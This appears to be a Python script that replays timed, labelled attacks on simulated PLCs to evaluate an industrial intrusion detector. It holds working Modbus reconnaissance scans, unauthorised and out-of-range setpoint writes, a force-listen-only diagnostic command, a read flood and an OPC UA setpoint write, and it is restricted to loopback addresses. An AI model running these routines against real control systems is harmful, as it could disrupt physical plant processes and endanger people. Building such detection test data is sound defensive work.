#!/usr/bin/env python3
"""Attacks of the evaluation scenario, at fixed times after start, with labels.

Each step runs on its own connection and appends a line to --labels: start, end (RFC 3339,
UTC, wall clock = tcpdump's clock; the window opens just before the SYN and closes 50 ms
after the FIN), label, the IP address of the host that acts, description.

  t=25 s  recon_fc_scan        127.0.0.66 -> PLC 1: FC 1..127 once each
  t=40 s  recon_unit_scan      127.0.0.66 -> PLC 2: FC 3 to units 1..50
  t=55 s  recon_address_sweep  127.0.0.66 -> PLC 1: HR 0..199, IR 0..99 in blocks of 10
  t=70 s  new_host_read        127.0.0.67 -> PLC 1: reads HR 0-9 like the HMI, 5 times
  t=85 s  unauthorised_write   127.0.0.68 -> PLC 1: FC 6 level setpoint = 60.0 % (a normal value)
  t=100 s write_out_of_range   127.0.0.30 (the engineering station) -> PLC 1: FC 6 level
                               setpoint = 95.0 % (normal 58-62 %)
  t=115 s diag_force_listen_only 127.0.0.66 -> PLC 1: FC 8 sub-function 4
  t=130 s read_burst           127.0.0.21 (the historian) -> PLC 1: 300 x FC 4 IR 0-5 back to
                               back (normally one every 5 s)
  (the frozen level, t=150..195 s, is made and labelled by eval_plc.py)
  t=205 s opcua_browse_write   127.0.0.66 -> OPC UA server of PLC 1: browse, read, write the
                               tank setpoint (95.0), 1 s later write it back (60.0)
"""

from __future__ import annotations

import argparse
import asyncio
import logging
import time

from asyncua import Client, ua
from pymodbus.client import AsyncModbusTcpClient

from modbus_attack import RawPDU, rfc3339, scan_payload
from opcua_clients import NS_URI, bind_source, browse_tree

log = logging.getLogger("attacks")


class Steps:
    def __init__(self, args):
        self.args = args
        self.t0 = time.monotonic()
        self.lines: list[str] = []

    async def at(self, t: float) -> None:
        await asyncio.sleep(max(0.0, self.t0 + t - time.monotonic()))

    async def modbus(self, t, label, source, target, desc, body):
        await self.at(t)
        start = time.time()
        host, port = target.split(":")
        c = AsyncModbusTcpClient(host, port=int(port), source_address=(source, 0), timeout=0.5,
                                 retries=0, reconnect_delay=0)
        if not await c.connect():
            raise SystemExit(f"cannot connect to {target}")
        await asyncio.sleep(0.05)
        await body(c)
        c.close()
        await asyncio.sleep(0.05)
        self.label(start, time.time(), label, source, desc)

    def label(self, t0, t1, label, ip, desc):
        self.lines.append(f"{rfc3339(t0)}\t{rfc3339(t1)}\t{label}\t{ip}\t{desc}\n")
        log.info("step %s done in %.2f s", label, t1 - t0)


async def req(c, what, call):
    if not c.connected:
        await c.connect()
    try:
        rsp = await call()
        log.debug("%s -> %s", what, rsp)
    except Exception as exc:  # noqa: BLE001 - an attacker does not care
        log.info("%s -> %s", what, exc)


async def run(args):
    s = Steps(args)
    plc1, plc2, bad, new = args.plc1, args.plc2, args.attacker, args.newhost

    async def fc_scan(c):
        for fc in range(1, 128):
            await req(c, f"FC {fc}", lambda: c.execute(False, RawPDU(fc, scan_payload(fc), dev_id=1)))

    async def unit_scan(c):
        for unit in range(1, 51):
            await req(c, f"unit {unit}", lambda: c.read_holding_registers(0, count=1, device_id=unit))

    async def sweep(c):
        for addr in range(0, 200, 10):
            await req(c, f"HR {addr}", lambda: c.read_holding_registers(addr, count=10, device_id=1))
        for addr in range(0, 100, 10):
            await req(c, f"IR {addr}", lambda: c.read_input_registers(addr, count=10, device_id=1))

    async def polite(c):
        for _ in range(5):
            await req(c, "HR 0-9", lambda: c.read_holding_registers(0, count=10, device_id=1))
            await asyncio.sleep(1.0)

    async def write_normal(c):
        await req(c, "FC6 HR0=600", lambda: c.write_register(0, 600, device_id=1))

    async def write_high(c):
        await req(c, "FC6 HR0=950", lambda: c.write_register(0, 950, device_id=1))
        await req(c, "FC3 check", lambda: c.read_holding_registers(0, count=4, device_id=1))
        await asyncio.sleep(1.0)
        await req(c, "FC6 HR0=600", lambda: c.write_register(0, 600, device_id=1))

    async def listen_only(c):
        await req(c, "FC8/4", lambda: c.diag_force_listen_only(device_id=1, no_response_expected=True))
        await asyncio.sleep(0.3)

    async def burst(c):
        for _ in range(300):
            await req(c, "IR 0-5", lambda: c.read_input_registers(0, count=6, device_id=1))

    await s.modbus(25, "recon_fc_scan", bad, plc1, "function code scan FC 1..127 on PLC 1", fc_scan)
    await s.modbus(40, "recon_unit_scan", bad, plc2, "unit id scan 1..50 with FC 3 on PLC 2", unit_scan)
    await s.modbus(55, "recon_address_sweep", bad, plc1, "address sweep on PLC 1: HR 0..199, IR 0..99", sweep)
    await s.modbus(70, "new_host_read", new, plc1, "a host never seen before reads HR 0-9 of PLC 1, 5 times", polite)
    await s.modbus(85, "unauthorised_write", args.writer, plc1, "a new host writes the level setpoint of PLC 1 (FC 6 HR 0 = 600)", write_normal)
    await s.modbus(100, "write_out_of_range", args.eng, plc1,
                   "engineering station writes level setpoint 95.0 % on PLC 1 (normal 58-62 %), then back", write_high)
    await s.modbus(115, "diag_force_listen_only", bad, plc1, "FC 8 sub-function 4 force listen only on PLC 1", listen_only)
    await s.modbus(130, "read_burst", args.historian, plc1, "historian reads IR 0-5 of PLC 1 300 times back to back (normally every 5 s)", burst)

    await s.at(205)
    start = time.time()
    client = bind_source(Client(args.opcua, timeout=4), bad)
    await client.connect()
    try:
        idx = await client.get_namespace_index(NS_URI)
        nodes: list = []
        await browse_tree(client.nodes.objects, 3, nodes)
        plant = await client.nodes.objects.get_child(f"{idx}:Plant")
        sp = await plant.get_child([f"{idx}:Tank", f"{idx}:Setpoint"])
        log.info("opcua: browsed %d nodes, setpoint %s", len(nodes), await sp.read_value())
        await sp.write_value(ua.DataValue(ua.Variant(95.0, ua.VariantType.Double)))
        # Put it back after a second, as a careful intruder would (and so the tank settles).
        await asyncio.sleep(1.0)
        await sp.write_value(ua.DataValue(ua.Variant(60.0, ua.VariantType.Double)))
    finally:
        await client.disconnect()
    await asyncio.sleep(0.05)
    s.label(start, time.time(), "opcua_browse_write", bad,
            "a new OPC UA client browses PLC 1's address space and writes the tank setpoint (95.0, back to 60.0 after 1 s)")

    with open(args.labels, "a", encoding="utf-8") as f:
        f.writelines(s.lines)


def main():
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    p.add_argument("--attacker", default="127.0.0.66")
    p.add_argument("--newhost", default="127.0.0.67")
    p.add_argument("--writer", default="127.0.0.68")
    p.add_argument("--eng", default="127.0.0.30")
    p.add_argument("--historian", default="127.0.0.21")
    p.add_argument("--plc1", default="127.0.0.10:502")
    p.add_argument("--plc2", default="127.0.0.11:5020")
    p.add_argument("--opcua", default="opc.tcp://127.0.0.10:4840/plant/")
    p.add_argument("--labels", required=True)
    args = p.parse_args()
    for a in (args.attacker, args.newhost, args.writer, args.eng, args.historian, args.plc1, args.plc2, args.opcua.split("//")[1]):
        if not a.startswith("127."):
            raise SystemExit("loopback addresses only")
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(name)s %(levelname)s %(message)s")
    logging.getLogger("pymodbus").setLevel(logging.ERROR)
    logging.getLogger("asyncua").setLevel(logging.WARNING)
    asyncio.run(run(args))


if __name__ == "__main__":
    main()
